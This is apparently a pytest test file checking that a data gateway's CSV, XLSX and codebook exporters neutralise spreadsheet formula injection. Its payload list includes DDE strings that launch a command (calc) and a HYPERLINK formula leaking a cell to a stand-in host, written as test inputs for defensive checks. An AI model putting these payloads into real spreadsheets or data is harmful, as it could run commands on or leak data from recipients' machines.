"""A value or a column's name that a spreadsheet would run."""

import csv
import io
import re
import zipfile

import openpyxl
import pyarrow as pa
import pytest
import xlsxwriter

from gateway.outputs import codebook, csv_file, xlsx_file

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = [
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    *STARTS,
    '=HYPERLINK("https://example.org?leak="&A1,"click")',
    "'=1+1",
    "''=1+1",
    "\t=1+1",
    "{=1+1}",
    "<r><t>=1+1</t></r>",
    '"=1+1',
    '",=1+1',
]
TABLE = pa.table(dict.fromkeys(PAYLOADS, PAYLOADS))
FORMULA = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def csv_cells(content):
    rows = csv.reader(io.StringIO(content.decode(), newline=""))
    return [cell for row in rows for cell in row]


def written(module, table):
    out = io.BytesIO()
    module.write([table], out, title="=1+1")
    return out.getvalue()


def test_no_csv_cell_begins_like_a_formula():
    cells = csv_cells(written(csv_file, TABLE))
    assert len(cells) == len(PAYLOADS) * (len(PAYLOADS) + 1)
    assert not [cell for cell in cells if FORMULA.match(cell)]


def test_control_a_plain_csv_writer_lets_formulas_through():
    out = io.StringIO()
    csv.writer(out).writerows([[payload] for payload in PAYLOADS])
    assert [cell for cell in csv_cells(out.getvalue().encode()) if FORMULA.match(cell)]


def test_the_payload_comes_back_as_it_was():
    for module in (csv_file, xlsx_file):
        assert pa.concat_tables(module.read_back(io.BytesIO(written(module, TABLE)))).equals(TABLE)


def test_numbers_are_no_formulas():
    assert written(csv_file, pa.table({"wage": [-5]})) == b"wage\n-5\n"


def test_no_codebook_cell_begins_like_a_formula():
    out = io.BytesIO()
    codebook.write_codebook([codebook.CodebookRow(*["=1+1"] * 9)], out)
    assert not [cell for cell in csv_cells(out.getvalue()) if FORMULA.match(cell)]


def formulas_in(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_no_worksheet_cell_is_a_formula():
    content = written(xlsx_file, TABLE)
    assert not formulas_in(content)
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"hyperlink" not in sheet


@pytest.mark.parametrize("start", STARTS)
def test_a_worksheet_cell_that_looks_like_a_formula_stays_text_when_edited(start):
    content = written(xlsx_file, pa.table({"a": [f"{start}1"]}))
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].quotePrefix


def test_control_a_careless_workbook_lets_formulas_through():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet().write_column(0, 0, [payload for payload in PAYLOADS if payload])
    book.close()
    assert formulas_in(out.getvalue())


def test_markup_in_a_cell_is_text():
    payload = "<r><t>innocent</t></r>"
    content = written(xlsx_file, pa.table({"a": [payload]}))
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].value == payload


def test_control_markup_in_a_careless_cell_is_taken_for_markup():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet().write_string(0, 0, "<r><t>innocent</t></r>")
    book.close()
    assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"].value == "innocent"
